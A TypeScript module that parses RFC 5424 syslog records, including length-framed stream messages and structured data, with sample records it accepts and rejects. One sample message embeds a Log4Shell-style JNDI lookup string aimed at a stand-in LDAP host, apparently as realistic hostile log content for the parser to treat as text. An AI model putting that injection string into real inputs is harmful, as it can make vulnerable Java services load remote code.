import { readTime } from '../time/read-time.ts'
import type { LogFormat, RecordField, Span } from './format.ts'

/**
 * Syslog with structured data: `<priority>1 time host app process id [data] message`. On a stream each message may have its
 * length in front, and no line break behind it (RFC 6587 §3.4.1).
 */
export const syslogRfc5424: LogFormat = {
  id: 'syslog-rfc5424',
  summary: 'syslog with structured data, also framed by lengths as on a stream; the message is read as what it is',
  definedBy: 'https://www.rfc-editor.org/rfc/rfc5424',
  examples: {
    reads: [
      {
        record:
          '<165>1 2021-12-12T04:25:41.003Z web1 app 1234 ID47 [meta@32473 ip="203.0.113.9" q="a\\"]b"][x@32473] login of ${jndi:ldap://x.example/a}',
        when: '2021-12-12T04:25:41.003Z',
      },
      { record: '<34>1 - - - - - -' },
      { record: '64 <34>1 2021-12-12T04:25:41Z web1 su - - - \ufeffhello of 64 octets', when: '2021-12-12T04:25:41Z' },
    ],
    refuses: [
      '<34>Dec 12 04:25:41 web1 su: x',
      '<34>1 2021-12-12T04:25:41Z web1',
      '20 <34>1 - - - - - - a20 <34>1 - - - - - - b',
    ],
  },
  read({ text }, { around }) {
    const match =
      /^(?:(\d{1,7}) )?<\d{1,3}>[1-9]\d{0,2} (-|\d{4}-\d\d-\d\dT\S{8,24}) (\S{1,255}) (\S{1,255}) (\S{1,255}) (\S{1,255}) (?=[-[])/.exec(
        text,
      )
    if (match === null) return null
    const [whole, octets, time = '', ...names] = match
    // More than one: each is to be looked at by itself.
    if (octets !== undefined && new TextEncoder().encode(text).length - octets.length - 1 > Number(octets)) return null
    const data = structuredData(text, whole.length)
    if (data === null) return null
    const header = ['host', 'application', 'process', 'message id']
    return {
      when: readTime(time, around),
      from: null,
      request: null,
      userAgent: null,
      fields: [
        ...names.map((value, index) => ({ name: header[index] ?? null, value })),
        ...data.fields,
        { name: null, value: text.slice(data.end).replace(/^ ?\ufeff?/, ''), holdsRecord: true },
      ],
    }
  },
  spans: {
    mark: '>1 ',
    mayHold: (line) => /^\d{1,7} <\d{1,3}>/.test(line),
    around: frameAround,
  },
}

const mostParameters = 256

/** `[id name="value" …][…]`, or `-`; quotes, brackets and backslashes in values have a backslash before them (§6.3.3). */
function structuredData(
  text: string,
  from: number,
): { readonly fields: readonly RecordField[]; readonly end: number } | null {
  if (text[from] === '-') return { fields: [], end: from + 1 }
  const fields: RecordField[] = []
  let at = from
  while (text[at] === '[' && fields.length < mostParameters) {
    const element = /\[([^\s\]="]{1,64})/y
    element.lastIndex = at
    const id = element.exec(text)?.[1]
    if (id === undefined) return null
    at = element.lastIndex
    const parameter = / ([^\s\]="]{1,64})="((?:[^"\\]|\\[^])*)"/y
    for (parameter.lastIndex = at; ; ) {
      const match = parameter.exec(text)
      if (match === null) break
      fields.push({ name: `${id} ${match[1]}`, value: match[2] ?? '' })
      at = parameter.lastIndex
    }
    if (text[at] !== ']') return null
    at++
  }
  return { fields, end: at }
}

/** Beginnings that are tried, the nearest first: a message may hold what looks like one. */
const mostTried = 16

function frameAround(piece: string, place: number): Span | null {
  for (let before = place, tried = 0; tried < mostTried; tried++) {
    const at = piece.lastIndexOf('>1 ', before)
    if (at < 0) return null
    const head = /(\d{1,7}) <\d{1,3}$/.exec(piece.slice(Math.max(0, at - 13), at))
    if (head !== null) {
      const [whole, octets = ''] = head
      const start = at - whole.length
      const end = Math.min(piece.length, start + octets.length + 1 + Number(octets))
      if (end > place) return { start, end }
    }
    before = at - 1
  }
  return null
}
